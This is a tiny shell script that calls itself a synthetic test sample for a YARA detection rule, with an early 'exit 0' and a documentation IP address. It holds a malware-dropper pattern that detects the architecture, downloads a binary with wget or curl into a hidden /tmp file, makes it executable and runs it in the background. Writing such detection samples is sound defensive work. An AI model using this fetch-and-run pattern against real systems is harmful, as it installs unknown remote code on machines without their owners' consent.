#!/bin/sh
exit 0  # ferret YARA test sample: synthetic, never run (TEST-NET documentation addresses)
ARCH=$(uname -m)
wget -q http://203.0.113.10:8080/bin/$ARCH -O /tmp/.kx || curl -s http://203.0.113.10:8080/bin/$ARCH -o /tmp/.kx
chmod +x /tmp/.kx
/tmp/.kx &
